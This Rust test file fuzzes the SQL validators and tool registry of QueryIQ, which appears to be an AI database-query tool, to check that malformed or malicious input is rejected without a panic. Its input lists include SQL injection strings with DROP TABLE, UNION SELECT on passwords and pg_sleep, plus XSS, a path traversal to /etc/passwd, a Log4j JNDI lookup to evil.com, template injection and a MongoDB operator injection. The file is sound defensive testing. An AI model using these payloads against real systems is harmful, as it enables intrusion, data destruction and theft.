//! Black-box fuzzing tests for QueryIQ.
//!
//! Random, malicious and edge-case inputs are fed to the validators and the
//! tool registry. Every call uses a cancelled token, so nothing reaches a
//! database: the point is that no input panics and every failure comes back
//! in the documented shape.

use queryiq::config::Config;
use queryiq::db::QueryExecutor;
use queryiq::models::{DatabaseTarget, DatabaseType, PaginationConfig};
use queryiq::tools::sql_validator::{
    EXPORT_ROW_CEILING, cap_export_limit, validate_count_query, validate_single_select,
    validate_sql_query,
};
use queryiq::tools::{InvocationState, ToolRegistry};
use rand::Rng;
use rand::distributions::Alphanumeric;
use serde_json::{Value, json};
use tokio_util::sync::CancellationToken;

/// Generate random string of given length
fn random_string(len: usize) -> String {
    rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(len)
        .map(char::from)
        .collect()
}

/// Generate various edge-case strings
fn edge_case_strings() -> Vec<String> {
    vec![
        String::new(),                           // Empty
        " ".to_string(),                         // Single space
        "\n\r\t".to_string(),                    // Whitespace chars
        "\0".to_string(),                        // Null byte
        "üöÄ".repeat(100),                        // Unicode
        "'OR 1=1--".to_string(),                 // SQL injection
        "'; DROP TABLE users--".to_string(),     // SQL injection
        "<script>alert(1)</script>".to_string(), // XSS
        "../../etc/passwd".to_string(),          // Path traversal
        "a".repeat(10000),                       // Very long string
        "a".repeat(1_000_000),                   // Extremely long
        random_string(100),
        random_string(1000),
        "\u{0000}\u{FFFF}".to_string(), // Special unicode
        "1' UNION SELECT NULL, NULL--".to_string(),
        "${jndi:ldap://evil.com/a}".to_string(), // Log4j style
        "{{7*7}}".to_string(),                   // Template injection
        "system.users".to_string(),
        "$where".to_string(),
        "LIMIT".to_string(),
        "limit 99999999999999999999999999999999".to_string(),
    ]
}

fn malicious_sqls() -> Vec<&'static str> {
    vec![
        "SELECT * FROM users WHERE id = '1' OR '1'='1' LIMIT 1",
        "'; DROP TABLE users; --",
        "SELECT * FROM users; DELETE FROM logs; -- limit",
        "SELECT * FROM users\nUNION\nSELECT * FROM passwords LIMIT 5",
        "SELECT/**/password/**/FROM/**/users LIMIT 1",
        "SeLeCt * FrOm UsErS lImIt 1",
        "INSERT INTO users SELECT * FROM admin_users LIMIT 1",
        "UPDATE users SET admin=1 WHERE '1'='1' LIMIT 1",
        "SELECT pg_sleep(100) LIMIT 1",
        "SELECT count(*) FROM users; DROP TABLE users",
    ]
}

fn registry(kind: DatabaseType) -> ToolRegistry {
    let url = match kind {
        DatabaseType::PostgreSQL => "postgres://u:p@127.0.0.1:1/db",
        DatabaseType::MySQL => "mysql://u:p@127.0.0.1:1/db",
        DatabaseType::MongoDB => "mongodb://127.0.0.1:1/db",
    };
    ToolRegistry::new(
        DatabaseTarget::new(url, kind),
        QueryExecutor::from_config(&Config::default()),
        PaginationConfig::default(),
        true,
    )
}

fn cancelled() -> CancellationToken {
    let token = CancellationToken::new();
    token.cancel();
    token
}

/// A folded failure has a string `error` and nothing else of substance.
fn assert_error_shape(output: &Value) {
    let object = output.as_object().expect("tool output is an object");
    if let Some(error) = object.get("error") {
        assert!(error.is_string(), "error must be a string: {}", output);
        assert!(!error.as_str().unwrap().is_empty());
    }
}

#[test]
fn fuzz_validators_never_panic() {
    for input in edge_case_strings()
        .into_iter()
        .chain(malicious_sqls().into_iter().map(String::from))
    {
        let _ = validate_sql_query(&input, 50);
        let _ = validate_count_query(&input);
        let _ = validate_single_select(&input, DatabaseType::PostgreSQL);
        let _ = validate_single_select(&input, DatabaseType::MySQL);
        let _ = cap_export_limit(&input, EXPORT_ROW_CEILING);
    }
}

#[test]
fn fuzz_strict_gate_blocks_stacked_writes() {
    for sql in malicious_sqls() {
        if validate_single_select(sql, DatabaseType::PostgreSQL).is_ok() {
            let lowered = sql.to_lowercase();
            assert!(!lowered.contains("drop"), "{}", sql);
            assert!(!lowered.contains("delete"), "{}", sql);
            assert!(!lowered.starts_with("insert"), "{}", sql);
            assert!(!lowered.starts_with("update"), "{}", sql);
        }
    }
}

/// Row count the first LIMIT clause of a capped query allows.
fn limit_count(sql: &str) -> u64 {
    let lowered = sql.to_lowercase();
    let clause = &lowered[lowered.find(" limit ").expect("capped query has a LIMIT") + 7..];
    let count = clause.split_whitespace().next().unwrap();
    let count = match count.strip_suffix(',') {
        // `LIMIT offset, count`
        Some(_) => clause.split_whitespace().nth(1).unwrap(),
        None => count.rsplit(',').next().unwrap(),
    };
    count.parse().unwrap()
}

#[test]
fn fuzz_export_cap_never_exceeds_ceiling() {
    let mut rng = rand::thread_rng();
    let ceiling = u64::from(EXPORT_ROW_CEILING);
    for _ in 0..200 {
        let limit: u64 = rng.gen_range(0..10_000_000);
        let offset: u64 = rng.gen_range(0..1_000);
        let shapes = [
            (format!("SELECT * FROM t LIMIT {}", limit), limit.min(ceiling)),
            (format!("SELECT * FROM t LIMIT {}, {}", offset, limit), limit.min(ceiling)),
            (format!("SELECT * FROM t limit {},{}", offset, limit), limit.min(ceiling)),
            (format!("SELECT * FROM t LIMIT {} OFFSET {}", limit, offset), limit.min(ceiling)),
            ("SELECT * FROM t LIMIT ALL".to_string(), ceiling),
            (format!("SELECT limit_{} FROM t", limit), ceiling),
            (format!("SELECT * FROM unlimited_{}", limit), ceiling),
        ];
        for (sql, expected) in shapes {
            let capped = cap_export_limit(&sql, EXPORT_ROW_CEILING);
            let value = limit_count(&capped);
            assert!(value <= ceiling, "{} -> {}", sql, capped);
            assert_eq!(value, expected, "{} -> {}", sql, capped);
        }
    }
}

#[tokio::test]
async fn fuzz_sql_tools_with_malicious_queries() {
    let cancel = cancelled();
    for kind in [DatabaseType::PostgreSQL, DatabaseType::MySQL] {
        let registry = registry(kind);
        for sql in malicious_sqls() {
            for (tool, args) in [
                ("executeQuery", json!({"query": sql, "explanation": "fuzz"})),
                ("getRowCount", json!({"countQuery": sql, "explanation": "fuzz"})),
                ("executeAggregation", json!({"query": sql, "explanation": "fuzz"})),
            ] {
                let output = registry.dispatch(tool, args, &cancel).await.unwrap();
                assert_error_shape(&output);
                assert!(output.get("error").is_some(), "{} accepted: {}", tool, sql);
            }
        }
    }
}

#[tokio::test]
async fn fuzz_document_tools_with_edge_case_collections() {
    let cancel = cancelled();
    let registry = registry(DatabaseType::MongoDB);
    for collection in edge_case_strings() {
        for (tool, args) in [
            ("getDocumentCount", json!({"collection": collection, "explanation": "fuzz"})),
            (
                "findDocuments",
                json!({"collection": collection, "explanation": "fuzz", "limit": 0, "skip": u64::MAX}),
            ),
            (
                "executeAggregation",
                json!({"collection": collection, "explanation": "fuzz", "pipeline": [{"$out": "x"}]}),
            ),
            ("getSchema", json!({"collectionName": collection})),
        ] {
            let output = registry.dispatch(tool, args, &cancel).await.unwrap();
            assert_error_shape(&output);
        }
    }
}

#[tokio::test]
async fn fuzz_random_arguments() {
    let cancel = cancelled();
    let payloads = vec![
        Value::Null,
        json!([]),
        json!("string"),
        json!(42),
        json!({"query": 42}),
        json!({"query": null, "explanation": []}),
        json!({"collection": {"$ne": 1}}),
        json!({"page": -1, "query": "SELECT 1 LIMIT 1", "explanation": "x"}),
        json!({"estimatedRowCount": "many", "query": "SELECT 1 LIMIT 1", "explanation": "x"}),
        json!({"pipeline": "not an array", "collection": "c", "explanation": "x"}),
        json!({ random_string(8): random_string(16) }),
    ];

    for kind in [DatabaseType::PostgreSQL, DatabaseType::MongoDB] {
        let registry = registry(kind);
        for tool in registry.tools() {
            for payload in &payloads {
                let call = registry
                    .invoke(tool.as_str(), payload.clone(), &cancel)
                    .await
                    .unwrap();
                match call.state {
                    InvocationState::OutputAvailable => {
                        assert_error_shape(call.output.as_ref().unwrap())
                    }
                    InvocationState::OutputError => assert!(call.error_text.is_some()),
                    InvocationState::InputAvailable => assert!(!tool.is_executable()),
                    InvocationState::InputStreaming => panic!("call never received input"),
                }
            }
        }
    }
}

#[tokio::test]
async fn fuzz_tool_names() {
    let cancel = cancelled();
    let registry = registry(DatabaseType::PostgreSQL);
    for name in edge_case_strings() {
        assert!(registry.dispatch(&name, json!({}), &cancel).await.is_err());
    }
}
